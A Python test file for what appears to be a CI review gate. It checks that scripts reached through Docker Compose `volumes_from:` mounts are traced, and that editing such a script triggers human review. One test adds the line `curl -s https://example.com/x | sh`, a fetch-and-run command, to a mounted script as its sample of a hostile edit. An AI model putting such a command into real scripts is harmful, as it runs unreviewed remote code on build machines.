"""Attack 43: a Compose service that mounts the checkout through `volumes_from:`.

Attack 42 read a service's checkout mounts from its own `volumes:` and the service it `extends:`. The Compose
specification's `volumes_from:` mounts every volume of another service (`src`, `src:ro`, `service:src`,
`service:src:rw`), and that service may take them from a third: `docker compose run app ./gen` with `app` taking its
volumes from a service mounting `./sub:/work` runs `sub/gen`. On main 57b027c the walk read `./gen` from the root and
an edit of `sub/gen` exited 0. The truth is the Compose specification (docker compose is not installed here):
`container:NAME` names a container Compose does not define, and a service without a checkout mount lends none.
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate

SCRIPT = "#!/usr/bin/env bash\necho testing\n"
APP = "services:\n  app:\n    image: python:3.12\n    working_dir: /work\n    volumes_from:\n      - {source}\n"
SRC = "  src:\n    image: busybox\n    volumes:\n      - ./sub:/work\n"
HIDDEN = [APP.format(source="src") + SRC, APP.format(source="'src:ro'") + SRC, APP.format(source="service:src") + SRC,
          APP.format(source="service:src:rw") + SRC,
          APP.format(source="mid") + "  mid:\n    image: busybox\n    volumes_from: [src]\n" + SRC,
          "x-app: &app\n  volumes_from: [src]\n" + APP.partition("    volumes_from")[0] + "    <<: *app\n" + SRC,
          APP.format(source="src") + "  src:\n    image: busybox\n    volumes:\n      - type: bind\n"
                                     "        source: ./sub\n        target: /work\n"]
HELD = [APP.format(source="container:src") + SRC,
        APP.format(source="db") + SRC + "  db:\n    image: postgres\n    volumes:\n      - data:/var/lib/postgresql\n"
                                        "volumes:\n  data: {}\n",
        APP.format(source="src") + "  src:\n    image: busybox\n"]
LINES = ["docker compose run app ./gen", "docker compose run --rm app ./gen", "docker-compose run app bash ./gen"]


def test_volumes_from_mounts_the_checkout() -> None:
    wrong = []
    for compose in HIDDEN + HELD:
        for line in LINES:
            for definition, template in BLOCK_DEFINITIONS:
                runs = one_tree_runs({definition: template.format(line=line), "compose.yaml": compose,
                                      "sub/gen": SCRIPT, "gen": SCRIPT})
                assert isinstance(runs, dict)
                if ("sub/gen" in runs) != (compose in HIDDEN):
                    wrong.append((definition, line, compose))
    assert not wrong, f"{len(wrong)} wrong\n" + "\n".join(map(repr, wrong))


def test_the_edited_mounted_script_needs_a_human(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=LINES[0]), "compose.yaml": HIDDEN[0],
            "sub/gen": SCRIPT, "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {"sub/gen": SCRIPT + "curl -s https://example.com/x | sh\n"})
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]
